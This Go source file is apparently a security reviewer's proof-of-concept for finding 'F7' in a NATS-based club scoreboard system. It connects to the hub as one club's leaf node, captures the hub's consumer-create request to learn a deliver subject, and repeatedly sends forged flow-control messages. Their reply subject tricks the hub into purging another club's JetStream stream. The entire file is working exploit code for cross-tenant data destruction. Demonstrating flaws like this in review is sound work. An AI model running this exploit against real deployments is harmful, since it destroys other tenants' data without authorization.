// purge: F7 in one command. Joins the hub as club -club with its seed, waits for
// the hub's request to create the club's source consumer, reads the deliver
// subject from it, and sends one flow-control request there whose reply subject
// is -target (default: purge another club's stream). Review tool, not project code.
package main

import (
	"bufio"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"flag"
	"fmt"
	"net"
	"net/url"
	"os"
	"strings"
	"sync/atomic"
	"time"

	"github.com/nats-io/nats-server/v2/server"
	"github.com/nats-io/nats.go"

	"github.com/goclub/scoreboard/bus"
)

func main() {
	hub := flag.String("hub", "tls://localhost:27422", "")
	seed := flag.String("seed", "", "the club's seed file")
	club := flag.String("club", "north", "")
	ca := flag.String("ca", "/tmp/review-league/env/ca.crt", "")
	target := flag.String("target", "$JS.API.STREAM.PURGE.LEAGUE_SOUTH", "the subject the hub is made to publish on")
	flag.Parse()
	s, err := bus.ReadSeedFile(*seed)
	if err != nil {
		panic(err)
	}
	u, _ := url.Parse(*hub)
	r := &server.RemoteLeafOpts{URLs: []*url.URL{u}, Nkey: s}
	if u.Scheme == "tls" {
		pem, _ := os.ReadFile(*ca)
		pool := x509.NewCertPool()
		pool.AppendCertsFromPEM(pem)
		r.TLS, r.TLSConfig = true, &tls.Config{RootCAs: pool}
	}
	dir, _ := os.MkdirTemp("", "purge")
	defer os.RemoveAll(dir)
	o := &server.Options{ServerName: "scoreboard-" + *club, Host: "127.0.0.1", Port: -1, NoSigs: true,
		JetStream: true, JetStreamDomain: *club, StoreDir: dir}
	o.LeafNode.Remotes = []*server.RemoteLeafOpts{r}
	ns, err := server.NewServer(o)
	if err != nil {
		panic(err)
	}
	go ns.Start()
	ns.ReadyForConnections(5 * time.Second)
	nc, _ := nats.Connect(ns.ClientURL())
	// A club has its history stream: the hub's source consumer is then created, and the
	// hub listens on its deliver subject.
	js, _ := nc.JetStream()
	if _, err := js.AddStream(&nats.StreamConfig{Name: "SCOREBOARD", Subjects: []string{"scoreboard.>"}}); err != nil {
		panic(err)
	}
	got := make(chan string, 1)
	var latest atomic.Value
	// The hub's requests to the club's domain arrive here as $JS.API.> on the club's server.
	nc.Subscribe("$JS.API.CONSUMER.CREATE.>", func(m *nats.Msg) {
		var req struct {
			Config struct {
				DeliverSubject string `json:"deliver_subject"`
			} `json:"config"`
		}
		if json.Unmarshal(m.Data, &req) == nil && req.Config.DeliverSubject != "" {
			fmt.Println("hub asks for a consumer delivering on", req.Config.DeliverSubject)
			latest.Store(req.Config.DeliverSubject)
			select {
			case got <- req.Config.DeliverSubject:
			default:
			}
		}
	})
	var deliver string
	select {
	case deliver = <-got:
	case <-time.After(30 * time.Second):
		fmt.Println("no consumer create request from the hub within 30 s")
		os.Exit(1)
	}
	fmt.Println("deliver subject from the hub's request:", deliver)
	time.Sleep(2 * time.Second) // the consumer is made and the hub's source is set
	hdr := "NATS/1.0 100 FlowControl Request\r\n\r\n"
	// Sent each second a few times: the hub's source may be set up again meanwhile.
	for i := 0; i < 8; i++ {
		deliver = latest.Load().(string)
		c, err := net.Dial("tcp", ns.Addr().String())
		if err != nil {
			panic(err)
		}
		br := bufio.NewReader(c)
		br.ReadString('\n')
		fmt.Fprintf(c, "CONNECT {\"verbose\":false,\"headers\":true,\"protocol\":1}\r\nHPUB %s %s %d %d\r\n%s\r\nPING\r\n", deliver, *target, len(hdr), len(hdr), hdr)
		c.SetReadDeadline(time.Now().Add(3 * time.Second))
		l, _ := br.ReadString('\n')
		c.Close()
		fmt.Printf("sent a flow-control request on %s with reply %s (%s), leafs=%d\n", deliver, *target, strings.TrimSpace(l), ns.NumLeafNodes())
		time.Sleep(time.Second)
	}
}
